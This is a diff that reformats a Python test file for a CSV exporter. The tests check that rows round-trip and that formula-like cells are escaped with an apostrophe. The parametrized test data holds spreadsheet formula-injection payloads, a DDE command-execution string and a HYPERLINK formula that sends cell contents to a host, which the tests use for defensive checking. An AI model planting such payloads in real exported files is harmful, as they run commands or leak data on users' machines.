@@ -17,7 +17,9 @@ TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"])) | st.sampled_fro
 NUMBERS = st.integers(-(10**9), 10**9) | st.floats(allow_nan=False, allow_infinity=False)
 NAMES = ("model", "n", "what, else", "why")
 ROWS = st.lists(
-    st.tuples(TEXTS, NUMBERS, st.none() | NUMBERS, st.none() | TEXTS).map(lambda row: dict(zip(NAMES, row, strict=True)))
+    st.tuples(TEXTS, NUMBERS, st.none() | NUMBERS, st.none() | TEXTS).map(
+        lambda row: dict(zip(NAMES, row, strict=True))
+    )
 )
 
 
@@ -34,9 +36,14 @@ def test_json_gives_back_the_rows(rows):
 def test_csv_gives_back_the_same_numbers_and_texts_and_an_empty_cell_for_none(rows):
     read = list(csv.DictReader(io.StringIO(as_csv(rows, NAMES), newline="")))
     expected = [
-        {"model": inert(row["model"]), "n": row["n"], "what, else": "" if row["what, else"] is None else row["what, else"],
-         "why": inert(row["why"] or "")} for row in rows
-    ]  # fmt: skip
+        {
+            "model": inert(row["model"]),
+            "n": row["n"],
+            "what, else": "" if row["what, else"] is None else row["what, else"],
+            "why": inert(row["why"] or ""),
+        }
+        for row in rows
+    ]
     for row in read:
         row["n"] = float(row["n"])
         row["what, else"] = float(row["what, else"]) if row["what, else"] else ""
@@ -55,11 +62,24 @@ def test_no_rows_are_an_empty_list_and_a_line_of_columns():
 
 
 @pytest.mark.parametrize(
-    "text", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", '=HYPERLINK("http://x?"&A1)']
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "\uff1d1",
+        '=HYPERLINK("http://x?"&A1)',
+    ],
 )
 def test_a_text_that_begins_as_a_formula_does_is_behind_an_apostrophe(text):
     """In names of columns too; a number below 0 is none."""
-    (names, cells) = csv.reader(io.StringIO(as_csv([{text: text, "n": -0.5, "e": -1e-9}], ()), newline=""))
+    (names, cells) = csv.reader(
+        io.StringIO(as_csv([{text: text, "n": -0.5, "e": -1e-9}], ()), newline="")
+    )
     assert names == [f"'{text}", "n", "e"]
     assert cells == [f"'{text}", "-0.5", "-1e-9"]
     (_, mixed, number) = csv.reader(io.StringIO(as_csv([{"x": text}, {"x": -0.5}], ()), newline=""))
@@ -69,5 +89,9 @@ def test_a_text_that_begins_as_a_formula_does_is_behind_an_apostrophe(text):
 @given(st.text(st.characters(exclude_categories=["Cs"])))
 def test_no_cell_of_a_text_begins_as_a_formula_does(text):
     for name, rows in ((text, [{"x": 1.5}]), ("x", [{"x": text}])):
-        for cell in (each for row in csv.reader(io.StringIO(as_csv(rows, [name]), newline="")) for each in row):
+        for cell in (
+            each
+            for row in csv.reader(io.StringIO(as_csv(rows, [name]), newline=""))
+            for each in row
+        ):
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
